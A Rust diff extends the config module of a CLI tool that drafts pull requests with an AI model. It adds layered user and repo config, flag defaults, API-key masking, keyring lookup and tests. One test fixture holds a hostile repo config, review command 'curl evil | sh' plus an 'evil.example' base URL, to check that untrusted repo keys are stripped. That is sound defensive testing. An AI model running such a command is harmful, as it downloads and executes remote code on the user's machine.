@@ -1,8 +1,11 @@
 use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
 use std::path::PathBuf;
 
-/// Top-level application configuration, loaded from `~/.config/gh-autopr/config.toml`
-/// and overridden by environment variables.
+/// Top-level application configuration, loaded from `~/.config/gh-autopr/config.toml`,
+/// then a repo-local `.gh-autopr.toml` (same keys except `REPO_UNTRUSTED_KEYS`,
+/// wins over the user file), and
+/// overridden by environment variables. CLI flags override all of them.
 ///
 /// Example config file:
 /// ```toml
@@ -11,11 +14,34 @@ use std::path::PathBuf;
 /// api_key  = "sk-ant-..."      # API key (prefer env var or keyring over plaintext)
 /// model    = "claude-opus-4-6" # model name; see https://docs.anthropic.com/en/docs/about-claude/models
 /// base_url = "https://..."     # optional custom endpoint
+/// openai_flavor = "azure"      # optional: Azure OpenAI (automatic for *.azure.com base URLs)
+/// api_version = "2024-10-21"   # Azure OpenAI only: required `api-version` query parameter
+/// max_issues_bytes = 16384     # optional: byte budget for open-issues context
+/// max_issues = 20              # optional: send only the N issues most related to the diff
+/// issues_cache_ttl = 600       # optional: seconds to reuse issues fetched by a recent run (0 disables)
+/// max_attempts = 3             # optional: attempts per AI call (retries 429/5xx/network errors)
+/// temperature = 0.2            # optional: sampling temperature, clamped to [0.0, 2.0]
+/// max_tokens = 2048            # optional: response token limit
+/// prompt_file = "/home/me/pr-style.md" # optional: replaces the built-in system prompt
 ///
 /// [review]
 /// enabled = true                    # optional: default true; set false to skip review entirely
 /// command = "opencode run --json" # optional: if set and enabled, review runs automatically
 /// max_rounds = 2                    # optional: autonomous prep loop cap
+///
+/// [checklists]                      # optional: named task lists for `--checklist <name>`
+/// default = ["Tests added", "Docs updated"]
+///
+/// [defaults]                        # optional: defaults for command-line flags
+/// draft = false                     # open PRs ready for review (like `--ready`); `--draft` overrides
+/// remote = "upstream"               # like `--remote`
+/// max_diff_bytes = 409600           # like `--max-diff-bytes`
+/// prune_dry_run = true              # `prune` only lists branches; `--no-dry-run` deletes them
+///
+/// [title]                           # optional: PR title post-processing
+/// ticket_from_branch = true         # like `--ticket-from-branch`
+/// ticket_pattern = "[A-Z]+-\\d+"     # like `--ticket-pattern`
+/// max_length = 72                   # like `--max-title-length`
 /// ```
 #[derive(Debug, Clone, Deserialize, Serialize, Default)]
 pub struct AppConfig {
@@ -23,6 +49,36 @@ pub struct AppConfig {
     pub ai: AiConfig,
     #[serde(default)]
     pub review: ReviewConfig,
+    #[serde(default)]
+    pub checklists: HashMap<String, Vec<String>>,
+    #[serde(default)]
+    pub defaults: DefaultsConfig,
+    #[serde(default)]
+    pub title: TitleConfig,
+}
+
+/// How the PR title is adjusted after it is generated.
+#[derive(Debug, Clone, Deserialize, Serialize, Default)]
+pub struct TitleConfig {
+    /// Prefix the title with the ticket in the original branch name
+    pub ticket_from_branch: Option<bool>,
+    /// Regex for the ticket (default `[A-Z]+-\d+`)
+    pub ticket_pattern: Option<String>,
+    /// Truncate longer titles at a word boundary
+    pub max_length: Option<usize>,
+}
+
+/// Defaults for command-line flags; the flags themselves still win.
+#[derive(Debug, Clone, Deserialize, Serialize, Default)]
+pub struct DefaultsConfig {
+    /// Open new PRs as drafts (default true)
+    pub draft: Option<bool>,
+    /// Remote to fetch from and push to (else the branch's tracked remote, then origin)
+    pub remote: Option<String>,
+    /// Truncate diffs sent to the AI at this many bytes
+    pub max_diff_bytes: Option<usize>,
+    /// Make `prune` list branches without deleting them
+    pub prune_dry_run: Option<bool>,
 }
 
 #[derive(Debug, Clone, Deserialize, Serialize, Default)]
@@ -35,6 +91,40 @@ pub struct AiConfig {
     pub model: Option<String>,
     /// Optional custom base URL (e.g. for local proxies or compatible endpoints)
     pub base_url: Option<String>,
+    /// "azure" for Azure OpenAI: deployment URLs and an `api-key` header instead of a bearer token
+    pub openai_flavor: Option<String>,
+    /// Azure OpenAI `api-version` query parameter
+    pub api_version: Option<String>,
+    /// Byte budget for the open-issues context sent alongside the diff
+    pub max_issues_bytes: Option<usize>,
+    /// At most this many open issues, the ones most related to the diff (all that fit if unset)
+    pub max_issues: Option<usize>,
+    /// Seconds to reuse open issues saved in `.git` by an earlier run (default 600, 0 disables)
+    pub issues_cache_ttl: Option<u64>,
+    /// Total attempts per AI call, including the first (default 3)
+    pub max_attempts: Option<u32>,
+    /// Sampling temperature sent with every request (provider default if unset)
+    pub temperature: Option<f32>,
+    /// Response token limit sent with every request (provider default if unset)
+    pub max_tokens: Option<u32>,
+    /// Refuse requests whose estimated input cost exceeds this many USD
+    pub max_cost: Option<f64>,
+    /// File whose contents replace the built-in system prompt. It must still ask for
+    /// JSON with the keys "branch_name", "commit_title" and "commit_details".
+    pub prompt_file: Option<PathBuf>,
+    /// Write every model request/response to this file (`--dump-request`; never read from config)
+    #[serde(skip)]
+    pub dump_request: Option<std::path::PathBuf>,
+    /// Repair invalid branch names with `sanitize_branch_name` instead of asking again (`--auto-fix-branch`)
+    #[serde(skip)]
+    pub auto_fix_branch: bool,
+    /// Where `model` came from, for the log (`--model`, an env var or the config file)
+    #[serde(skip)]
+    pub model_source: Option<String>,
+    /// Where `api_key` came from: the config file, `AUTOPR_API_KEY`, one of
+    /// `api_key_env_vars`, or the keyring (see `resolve_api_key`)
+    #[serde(skip)]
+    pub api_key_source: Option<String>,
 }
 
 #[derive(Debug, Clone, Deserialize, Serialize)]
@@ -97,8 +187,70 @@ enabled = true
 
 # If you prefer the ralph CLI, put your command wrapper here, e.g.:
 # command = "ralph run --json"
+
+# Optional: named review checklists, appended to the PR body with `--checklist <name>`.
+# [checklists]
+# default = ["Tests added or updated", "Docs updated"]
+
+# Optional: defaults for command-line flags (a repo's .gh-autopr.toml can set these too).
+# [defaults]
+# draft = false           # open PRs ready for review; --draft still makes a draft
+# remote = "upstream"
+# max_diff_bytes = 409600
+# prune_dry_run = true    # `prune` only lists; --no-dry-run deletes
 "#;
 
+/// An API key shortened for display: its first three and last four characters,
+/// or only asterisks when it is too short to hide anything that way.
+pub fn mask_api_key(key: &str) -> String {
+    const SHOWN_PREFIX: usize = 3;
+    const SHOWN_SUFFIX: usize = 4;
+    const MIN_CHARS: usize = 12;
+    let chars: Vec<char> = key.chars().collect();
+    if chars.len() < MIN_CHARS {
+        return "*".repeat(chars.len().max(1));
+    }
+    let prefix: String = chars[..SHOWN_PREFIX].iter().collect();
+    let suffix: String = chars[chars.len() - SHOWN_SUFFIX..].iter().collect();
+    format!("{}…{}", prefix, suffix)
+}
+
+/// Repo-local config, read from the repository root; its keys win over the user config file.
+pub const REPO_CONFIG_FILE: &str = ".gh-autopr.toml";
+
+/// `(table, key)`s a cloned repository must not set: they run commands or
+/// decide where the API key is sent.
+pub const REPO_UNTRUSTED_KEYS: [(&str, &str); 4] = [
+    ("review", "command"),
+    ("ai", "base_url"),
+    ("ai", "api_key"),
+    ("ai", "prompt_file"),
+];
+
+/// One config file as a TOML table, rejected if it doesn't parse or any key
+/// has the wrong type, so a broken file can be skipped on its own.
+pub fn parse_layer(content: &str) -> Result<toml::Table, String> {
+    let layer: toml::Table = toml::from_str(content).map_err(|e| e.to_string())?;
+    toml::Value::Table(layer.clone())
+        .try_into::<AppConfig>()
+        .map_err(|e| e.to_string())?;
+    Ok(layer)
+}
+
+/// Remove `REPO_UNTRUSTED_KEYS` from a repo config layer, returning the
+/// removed ones as `table.key`.
+pub fn strip_untrusted_keys(layer: &mut toml::Table) -> Vec<String> {
+    let mut removed = Vec::new();
+    for (table, key) in REPO_UNTRUSTED_KEYS {
+        if let Some(toml::Value::Table(table_value)) = layer.get_mut(table) {
+            if table_value.remove(key).is_some() {
+                removed.push(format!("{}.{}", table, key));
+            }
+        }
+    }
+    removed
+}
+
 impl AppConfig {
     /// If the config file does not exist, write a stub and return `true`.
     /// Returns `false` if the file already existed.
@@ -120,35 +272,135 @@ impl AppConfig {
         Ok(true)
     }
 
-    /// Load config from `~/.config/gh-autopr/config.toml`, then apply env var overrides.
-    /// Missing or unreadable config files are silently ignored; parse errors are printed to stderr.
+    /// Load config from `~/.config/gh-autopr/config.toml` and the repo's `.gh-autopr.toml`,
+    /// then apply env var overrides.
+    /// Missing config files are silently ignored; a file that can't be read or
+    /// parsed is skipped with a warning on stderr, keeping the other one.
+    /// Keys in `REPO_UNTRUSTED_KEYS` are dropped from the repo file with a warning.
     pub fn load() -> Self {
-        let mut config = Self::default();
-
-        if let Some(path) = Self::config_file_path() {
-            if path.exists() {
-                match std::fs::read_to_string(&path) {
-                    Ok(content) => match toml::from_str::<AppConfig>(&content) {
-                        Ok(file_config) => config = file_config,
-                        Err(e) => eprintln!(
-                            "Warning: failed to parse config file {}: {}",
-                            path.display(),
-                            e
-                        ),
-                    },
-                    Err(e) => eprintln!(
-                        "Warning: failed to read config file {}: {}",
-                        path.display(),
-                        e
-                    ),
+        let mut layers = Vec::new();
+        let user = Self::config_file_path();
+        let repo = Self::repo_config_file_path();
+        for (path, is_repo) in [(user, false), (repo, true)] {
+            let Some(path) = path.filter(|path| path.exists()) else {
+                continue;
+            };
+            let layer = std::fs::read_to_string(&path)
+                .map_err(|e| e.to_string())
+                .and_then(|content| parse_layer(&content));
+            match layer {
+                Ok(mut layer) => {
+                    if is_repo {
+                        for key in strip_untrusted_keys(&mut layer) {
+                            eprintln!(
+                                "Warning: ignoring {} in {}: only the user config may set it",
+                                key,
+                                path.display()
+                            );
+                        }
+                    }
+                    layers.push(layer);
                 }
+                Err(e) => eprintln!("Warning: ignoring config file {}: {}", path.display(), e),
             }
         }
 
+        let mut config = Self::from_layers(layers).unwrap_or_else(|e| {
+            eprintln!("Warning: ignoring config files: {}", e);
+            Self::default()
+        });
+        if config.ai.model.is_some() {
+            config.ai.model_source = Some("config file".to_string());
+        }
+        if config.ai.api_key.is_some() {
+            config.ai.api_key_source = Some("config file".to_string());
+        }
         config.apply_env_overrides();
         config
     }
 
+    /// Config from TOML tables, each overriding the keys it sets in the ones before it;
+    /// tables such as `[ai]` are merged key by key rather than replaced.
+    pub fn from_layers(layers: Vec<toml::Table>) -> Result<Self, toml::de::Error> {
+        let mut merged = toml::Table::new();
+        for layer in layers {
+            merge_toml(&mut merged, layer);
+        }
+        toml::Value::Table(merged).try_into()
+    }
+
+    /// `.gh-autopr.toml` at the root of the repository containing the current directory.
+    pub fn repo_config_file_path() -> Option<PathBuf> {
+        let output = std::process::Command::new("git")
+            .args(["rev-parse", "--show-toplevel"])
+            .output()
+            .ok()
+            .filter(|out| out.status.success())?;
+        let root = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        Some(PathBuf::from(root).join(REPO_CONFIG_FILE))
+    }
+
+    /// Whether new PRs start as drafts (`[defaults] draft`, default true).
+    pub fn draft_by_default(&self) -> bool {
+        self.defaults.draft.unwrap_or(true)
+    }
+
+    /// Whether pruning only lists branches: `--dry-run`, else `[defaults]
+    /// prune_dry_run` unless `--no-dry-run` overrides it.
+    pub fn prune_dry_run(&self, dry_run: bool, no_dry_run: bool) -> bool {
+        dry_run || (!no_dry_run && self.defaults.prune_dry_run == Some(true))
+    }
+
+    /// Provider-specific env vars holding the API key, in lookup order.
+    pub fn api_key_env_vars(&self) -> &'static [&'static str] {
+        match self.provider() {
+            "anthropic" => &["ANTHROPIC_API_KEY"],
+            _ => &["OPENAI_KEY", "OPENAI_API_KEY"],
+        }
+    }
+
+    /// Keyring service the API key is stored under: `GH_AUTOPR_KEYRING_SERVICE`, else `gh-autopr`.
+    pub fn keyring_service(&self) -> String {
+        std::env::var("GH_AUTOPR_KEYRING_SERVICE").unwrap_or_else(|_| "gh-autopr".to_string())
+    }
+
+    /// Keyring account the API key is stored under: `GH_AUTOPR_KEYRING_ACCOUNT`,
+    /// else `anthropic_key` or `openai_key` for the provider.
+    pub fn keyring_account(&self) -> String {
+        std::env::var("GH_AUTOPR_KEYRING_ACCOUNT").unwrap_or_else(|_| {
+            match self.provider() {
+                "anthropic" => "anthropic_key",
+                _ => "openai_key",
+            }
+            .to_string()
+        })
+    }
+
+    /// Settle `ai.api_key` and return where it came from, or `None` without one.
+    /// Precedence: the config file's `api_key` and `AUTOPR_API_KEY`, then the
+    /// keyring (`keyring` is only asked when needed), then `api_key_env_vars`
+    /// in order, e.g. `OPENAI_KEY` before `OPENAI_API_KEY`.
+    pub fn resolve_api_key(&mut self, keyring: impl FnOnce() -> Option<String>) -> Option<String> {
+        let explicit = matches!(
+            self.ai.api_key_source.as_deref(),
+            Some("config file" | "AUTOPR_API_KEY" | "keyring")
+        );
+        if !(self.ai.api_key.is_some() && explicit) {
+            if let Some(key) = keyring().filter(|key| !key.is_empty()) {
+                self.ai.api_key = Some(key);
+                self.ai.api_key_source = Some("keyring".to_string());
+            }
+        }
+        self.ai.api_key.as_ref()?;
+        // Keys set in code (e.g. by library callers) have no recorded source
+        Some(
+            self.ai
+                .api_key_source
+                .clone()
+                .unwrap_or_else(|| "config".to_string()),
+        )
+    }
+
     /// Path to the config file: `~/.config/gh-autopr/config.toml`
     pub fn config_file_path() -> Option<PathBuf> {
         dirs::config_dir().map(|p| p.join("gh-autopr").join("config.toml"))
@@ -164,10 +416,16 @@ impl AppConfig {
     /// - Review enabled: `AUTOPR_REVIEW_ENABLED`
     /// - Review cmd: `AUTOPR_REVIEW_COMMAND`
     /// - Review rounds: `AUTOPR_REVIEW_MAX_ROUNDS`
+    /// - AI call retries: `GH_AUTOPR_MAX_RETRIES` (attempts = retries + 1)
+    /// - Sampling: `GH_AUTOPR_TEMPERATURE`, `GH_AUTOPR_MAX_TOKENS`
+    /// - System prompt file: `GH_AUTOPR_PROMPT_FILE`
+    /// - Azure OpenAI: `GH_AUTOPR_OPENAI_FLAVOR`, `OPENAI_API_VERSION`
     ///
     /// Provider-specific fallbacks:
     /// - anthropic: `ANTHROPIC_API_KEY`, `ANTHROPIC_MODEL`, `ANTHROPIC_BASE_URL`
     /// - openai:    `OPENAI_KEY`/`OPENAI_API_KEY`, `OPENAI_MODEL`, `OPENAI_BASE_URL`
+    ///
+    /// A key from a provider-specific variable still loses to the keyring (see `resolve_api_key`).
     fn apply_env_overrides(&mut self) {
         if let Ok(v) = std::env::var("AUTOPR_PROVIDER") {
             self.ai.provider = Some(v);
@@ -175,27 +433,28 @@ impl AppConfig {
 
         if let Ok(v) = std::env::var("AUTOPR_API_KEY") {
             self.ai.api_key = Some(v);
+            self.ai.api_key_source = Some("AUTOPR_API_KEY".to_string());
         } else if self.ai.api_key.is_none() {
-            let key = match self.provider() {
-                "anthropic" => std::env::var("ANTHROPIC_API_KEY").ok(),
-                _ => std::env::var("OPENAI_KEY")
-                    .or_else(|_| std::env::var("OPENAI_API_KEY"))
-                    .ok(),
-            };
-            if let Some(k) = key {
-                self.ai.api_key = Some(k);
+            for var in self.api_key_env_vars() {
+                if let Ok(key) = std::env::var(var) {
+                    self.ai.api_key = Some(key);
+                    self.ai.api_key_source = Some(var.to_string());
+                    break;
+                }
             }
         }
 
         if let Ok(v) = std::env::var("AUTOPR_MODEL") {
             self.ai.model = Some(v);
+            self.ai.model_source = Some("AUTOPR_MODEL".to_string());
         } else if self.ai.model.is_none() {
-            let model = match self.provider() {
-                "anthropic" => std::env::var("ANTHROPIC_MODEL").ok(),
-                _ => std::env::var("OPENAI_MODEL").ok(),
+            let var = match self.provider() {
+                "anthropic" => "ANTHROPIC_MODEL",
+                _ => "OPENAI_MODEL",
             };
-            if let Some(m) = model {
+            if let Ok(m) = std::env::var(var) {
                 self.ai.model = Some(m);
+                self.ai.model_source = Some(var.to_string());
             }
         }
 
@@ -225,6 +484,43 @@ impl AppConfig {
                 self.review.max_rounds = Some(parsed.max(1));
             }
         }
+
+        if let Ok(v) = std::env::var("GH_AUTOPR_MAX_RETRIES") {
+            match v.trim().parse::<u32>() {
+                // Retries come on top of the first attempt
+                Ok(retries) => self.ai.max_attempts = Some(retries.saturating_add(1)),
+                Err(_) => eprintln!(
+                    "Warning: ignoring GH_AUTOPR_MAX_RETRIES: expected a retry count, got \"{}\"",
+                    v
+                ),
+            }
+        }
+
+        if let Ok(v) = std::env::var("GH_AUTOPR_OPENAI_FLAVOR") {
+            self.ai.openai_flavor = Some(v);
+        }
+
+        if let Ok(v) = std::env::var("OPENAI_API_VERSION") {
+            self.ai.api_version = Some(v);
+        }
+
+        if let Ok(v) = std::env::var("GH_AUTOPR_PROMPT_FILE") {
+            self.ai.prompt_file = Some(PathBuf::from(v));
+        }
+
+        if let Ok(v) = std::env::var("GH_AUTOPR_TEMPERATURE") {
+            match parse_temperature(&v) {
+                Ok(parsed) => self.ai.temperature = Some(parsed),
+                Err(e) => eprintln!("Warning: ignoring GH_AUTOPR_TEMPERATURE: {}", e),
+            }
+        }
+
+        if let Ok(v) = std::env::var("GH_AUTOPR_MAX_TOKENS") {
+            match parse_max_tokens(&v) {
+                Ok(parsed) => self.ai.max_tokens = Some(parsed),
+                Err(e) => eprintln!("Warning: ignoring GH_AUTOPR_MAX_TOKENS: {}", e),
+            }
+        }
     }
 
     /// Effective provider (defaults to "openai").
@@ -245,23 +541,114 @@ impl AppConfig {
             })
     }
 
+    /// Where `model()` came from: `--model`, an env var, the config file, or the provider default.
+    pub fn model_source(&self) -> String {
+        match &self.ai.model_source {
+            Some(source) if self.ai.model.is_some() => source.clone(),
+            _ => format!("default for {}", self.provider()),
+        }
+    }
+
+    /// Byte budget for the open-issues context (defaults to 16 KiB).
+    pub fn max_issues_bytes(&self) -> usize {
+        self.ai.max_issues_bytes.unwrap_or(16 * 1024)
+    }
+
+    /// How long issues cached on disk by an earlier run stay fresh (defaults to 10 minutes).
+    pub fn issues_cache_ttl(&self) -> std::time::Duration {
+        self.ai.issues_cache_ttl.map_or(
+            crate::github_ops::DEFAULT_ISSUES_CACHE_TTL,
+            std::time::Duration::from_secs,
+        )
+    }
+
+    /// Whether OpenAI requests go to Azure OpenAI: `openai_flavor = "azure"`, or
+    /// no flavor set and a `base_url` on `azure.com`.
+    pub fn openai_is_azure(&self) -> bool {
+        match self.ai.openai_flavor.as_deref() {
+            Some(flavor) => flavor.eq_ignore_ascii_case("azure"),
+            None => self
+                .ai
+                .base_url
+                .as_deref()
+                .is_some_and(|url| url.contains("azure.com")),
+        }
+    }
+
+    /// Attempts per AI call before giving up (defaults to 3).
+    pub fn max_attempts(&self) -> u32 {
+        self.ai.max_attempts.unwrap_or(3).max(1)
+    }
+
+    /// Sampling temperature, clamped to [0.0, 2.0]; `None` leaves the provider default.
+    pub fn temperature(&self) -> Option<f32> {
+        self.ai.temperature.map(|t| t.clamp(0.0, 2.0))
+    }
+
+    /// Response token limit; `None` leaves the provider default.
+    pub fn max_tokens(&self) -> Option<u32> {
+        self.ai.max_tokens
+    }
+
     pub fn review_enabled(&self) -> bool {
         self.review.enabled
     }
 
     pub fn review_command(&self) -> Option<&str> {
-        self.review.command.as_deref().and_then(|v| {
-            if self.review_enabled() && !v.trim().is_empty() {
-                Some(v)
-            } else {
-                None
-            }
-        })
+        self.review
+            .command
+            .as_deref()
+            .filter(|v| self.review_enabled() && !v.trim().is_empty())
     }
 
     pub fn review_max_rounds(&self) -> u32 {
         self.review.max_rounds.unwrap_or(2).max(1)
     }
+
+    /// Items of the named `[checklists]` entry, if configured.
+    pub fn checklist(&self, name: &str) -> Option<&[String]> {
+        self.checklists.get(name).map(Vec::as_slice)
+    }
+}
+
+/// Parse a `--temperature` / `GH_AUTOPR_TEMPERATURE` value. Range is clamped later.
+pub fn parse_temperature(value: &str) -> Result<f32, String> {
+    match value.trim().parse::<f32>() {
+        Ok(t) if t.is_finite() => Ok(t),
+        _ => Err(format!("expected a number, got \"{}\"", value)),
+    }
+}
+
+/// Parse a `--max-tokens` / `GH_AUTOPR_MAX_TOKENS` value.
+pub fn parse_max_tokens(value: &str) -> Result<u32, String> {
+    match value.trim().parse::<u32>() {
+        Ok(n) if n > 0 => Ok(n),
+        _ => Err(format!(
+            "expected a positive token count, got \"{}\"",
+            value
+        )),
+    }
+}
+
+/// Parse a `--max-cost` value in USD.
+pub fn parse_max_cost(value: &str) -> Result<f64, String> {
+    match value.trim().trim_start_matches('$').parse::<f64>() {
+        Ok(usd) if usd.is_finite() && usd > 0.0 => Ok(usd),
+        _ => Err(format!("expected a positive USD amount, got \"{}\"", value)),
+    }
+}
+
+fn merge_toml(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(overlay)) => {
+                merge_toml(base, overlay)
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
 }
 
 #[cfg(test)]
@@ -291,4 +678,199 @@ mod tests {
         assert!(!cfg.review_enabled());
         assert!(cfg.review_command().is_none());
     }
+
+    #[test]
+    fn checklists_parse_from_toml() {
+        let cfg: AppConfig =
+            toml::from_str("[checklists]\ndefault = [\"Tests added\", \"Docs updated\"]\n")
+                .unwrap();
+        assert_eq!(
+            cfg.checklist("default"),
+            Some(&["Tests added".to_string(), "Docs updated".to_string()][..])
+        );
+        assert!(cfg.checklist("missing").is_none());
+    }
+
+    #[test]
+    fn sampling_values_parse_and_clamp() {
+        assert_eq!(parse_temperature(" 0.2 "), Ok(0.2));
+        assert!(parse_temperature("warm").is_err());
+        assert!(parse_temperature("NaN").is_err());
+        assert_eq!(parse_max_tokens("512"), Ok(512));
+        assert!(parse_max_tokens("0").is_err());
+        assert_eq!(parse_max_cost("$0.05"), Ok(0.05));
+        assert!(parse_max_cost("0").is_err());
+        assert!(parse_max_cost("cheap").is_err());
+
+        let mut cfg = AppConfig::default();
+        assert_eq!(cfg.temperature(), None);
+        cfg.ai.temperature = Some(3.5);
+        assert_eq!(cfg.temperature(), Some(2.0));
+        cfg.ai.temperature = Some(-1.0);
+        assert_eq!(cfg.temperature(), Some(0.0));
+    }
+
+    #[test]
+    fn model_source_names_where_the_model_came_from() {
+        let mut cfg = AppConfig::default();
+        assert_eq!(cfg.model(), "gpt-4o-mini");
+        assert_eq!(cfg.model_source(), "default for openai");
+        cfg.ai.provider = Some("anthropic".to_string());
+        assert_eq!(cfg.model_source(), "default for anthropic");
+        cfg.ai.model = Some("claude-sonnet-4-5".to_string());
+        cfg.ai.model_source = Some("--model".to_string());
+        assert_eq!(cfg.model(), "claude-sonnet-4-5");
+        assert_eq!(cfg.model_source(), "--model");
+    }
+
+    #[test]
+    fn mask_api_key_shows_only_the_ends() {
+        assert_eq!(mask_api_key("sk-proj-abcdefghijklmnop1234"), "sk-…1234");
+        assert_eq!(mask_api_key("sk-ant-api03-xyzw"), "sk-…xyzw");
+        assert_eq!(mask_api_key("short-key"), "*********");
+        assert_eq!(mask_api_key(""), "*");
+        assert_eq!(mask_api_key("ключ-ключ-ключ"), "клю…ключ");
+    }
+
+    #[test]
+    #[serial_test::serial]
+    fn api_key_lookup_order() {
+        let vars = ["AUTOPR_API_KEY", "OPENAI_KEY", "OPENAI_API_KEY"];
+        let saved: Vec<_> = vars.iter().map(|var| std::env::var(var).ok()).collect();
+        let from_env = |set: &[(&str, &str)]| {
+            for var in vars {
+                std::env::remove_var(var);
+            }
+            for (var, value) in set {
+                std::env::set_var(var, value);
+            }
+            let mut cfg = AppConfig::default();
+            cfg.apply_env_overrides();
+            cfg
+        };
+
+        let mut cfg = from_env(&[("OPENAI_API_KEY", "sk-api"), ("OPENAI_KEY", "sk-key")]);
+        assert_eq!(cfg.resolve_api_key(|| None).as_deref(), Some("OPENAI_KEY"));
+        assert_eq!(cfg.ai.api_key.as_deref(), Some("sk-key"));
+
+        let mut cfg = from_env(&[("OPENAI_API_KEY", "sk-api")]);
+        assert_eq!(
+            cfg.resolve_api_key(|| None).as_deref(),
+            Some("OPENAI_API_KEY")
+        );
+        assert_eq!(cfg.ai.api_key.as_deref(), Some("sk-api"));
+
+        // The keyring wins over both env vars
+        let mut cfg = from_env(&[("OPENAI_API_KEY", "sk-api"), ("OPENAI_KEY", "sk-key")]);
+        let keyring = || Some("sk-ring".to_string());
+        assert_eq!(cfg.resolve_api_key(keyring).as_deref(), Some("keyring"));
+        assert_eq!(cfg.ai.api_key.as_deref(), Some("sk-ring"));
+
+        // ...but not over AUTOPR_API_KEY, and isn't even read then
+        let mut cfg = from_env(&[("AUTOPR_API_KEY", "sk-autopr"), ("OPENAI_KEY", "sk-key")]);
+        let source = cfg.resolve_api_key(|| panic!("keyring read"));
+        assert_eq!(source.as_deref(), Some("AUTOPR_API_KEY"));
+        assert_eq!(cfg.ai.api_key.as_deref(), Some("sk-autopr"));
+
+        let mut cfg = from_env(&[]);
+        assert_eq!(cfg.resolve_api_key(|| None), None);
+
+        for (var, value) in vars.iter().zip(saved) {
+            match value {
+                Some(value) => std::env::set_var(var, value),
+                None => std::env::remove_var(var),
+            }
+        }
+    }
+
+    #[test]
+    #[serial_test::serial]
+    fn max_retries_env_counts_retries_after_the_first_attempt() {
+        let saved = std::env::var("GH_AUTOPR_MAX_RETRIES").ok();
+        let attempts = |value: &str| {
+            std::env::set_var("GH_AUTOPR_MAX_RETRIES", value);
+            let mut cfg = AppConfig::default();
+            cfg.apply_env_overrides();
+            cfg.max_attempts()
+        };
+
+        assert_eq!(attempts("1"), 2);
+        assert_eq!(attempts("0"), 1);
+        assert_eq!(attempts("many"), 3, "unparsable values keep the default");
+
+        match saved {
+            Some(value) => std::env::set_var("GH_AUTOPR_MAX_RETRIES", value),
+            None => std::env::remove_var("GH_AUTOPR_MAX_RETRIES"),
+        }
+    }
+
+    #[test]
+    fn prune_dry_run_flags_override_the_config() {
+        let mut cfg = AppConfig::default();
+        assert!(!cfg.prune_dry_run(false, false));
+        assert!(cfg.prune_dry_run(true, false));
+        cfg.defaults.prune_dry_run = Some(true);
+        assert!(cfg.prune_dry_run(false, false));
+        assert!(!cfg.prune_dry_run(false, true));
+    }
+
+    #[test]
+    fn repo_config_overrides_user_config_key_by_key() {
+        let user: toml::Table = toml::from_str(
+            "[ai]\nmodel = \"gpt-4o\"\ntemperature = 0.2\n[review]\nmax_rounds = 4\n[defaults]\nremote = \"upstream\"\n",
+        )
+        .unwrap();
+        let repo: toml::Table =
+            toml::from_str("[ai]\nmodel = \"gpt-4o-mini\"\n[defaults]\ndraft = false\n").unwrap();
+
+        let cfg = AppConfig::from_layers(vec![user, repo]).unwrap();
+        assert_eq!(cfg.model(), "gpt-4o-mini");
+        assert_eq!(cfg.temperature(), Some(0.2));
+        assert_eq!(cfg.review_max_rounds(), 4);
+        assert_eq!(cfg.defaults.remote.as_deref(), Some("upstream"));
+        assert!(!cfg.draft_by_default());
+
+        let cfg = AppConfig::from_layers(vec![]).unwrap();
+        assert!(cfg.draft_by_default());
+        assert!(cfg.review_enabled());
+        assert!(AppConfig::from_layers(vec![toml::from_str("ai = 1").unwrap()]).is_err());
+    }
+
+    #[test]
+    fn repo_config_cannot_set_commands_or_key_destinations() {
+        let mut repo = parse_layer(
+            "[ai]\nbase_url = \"https://evil.example\"\napi_key = \"x\"\nprompt_file = \"p\"\n\
+             model = \"gpt-4o-mini\"\n[review]\ncommand = \"curl evil | sh\"\nmax_rounds = 1\n",
+        )
+        .unwrap();
+        assert_eq!(
+            strip_untrusted_keys(&mut repo),
+            vec![
+                "review.command",
+                "ai.base_url",
+                "ai.api_key",
+                "ai.prompt_file"
+            ]
+        );
+        let user = parse_layer("[review]\ncommand = \"opencode run --json\"\n").unwrap();
+
+        let cfg = AppConfig::from_layers(vec![user, repo]).unwrap();
+        assert_eq!(cfg.review_command(), Some("opencode run --json"));
+        assert_eq!(cfg.review_max_rounds(), 1);
+        assert_eq!(cfg.model(), "gpt-4o-mini");
+        assert!(cfg.ai.base_url.is_none());
+        assert!(cfg.ai.api_key.is_none());
+        assert!(cfg.ai.prompt_file.is_none());
+    }
+
+    #[test]
+    fn broken_config_layer_is_rejected_on_its_own() {
+        assert!(parse_layer("[ai]\ntemperature = \"hot\"\n").is_err());
+        assert!(parse_layer("[ai\n").is_err());
+        let user = parse_layer("[ai]\nmodel = \"gpt-4o\"\n").unwrap();
+        assert_eq!(
+            AppConfig::from_layers(vec![user]).unwrap().model(),
+            "gpt-4o"
+        );
+    }
 }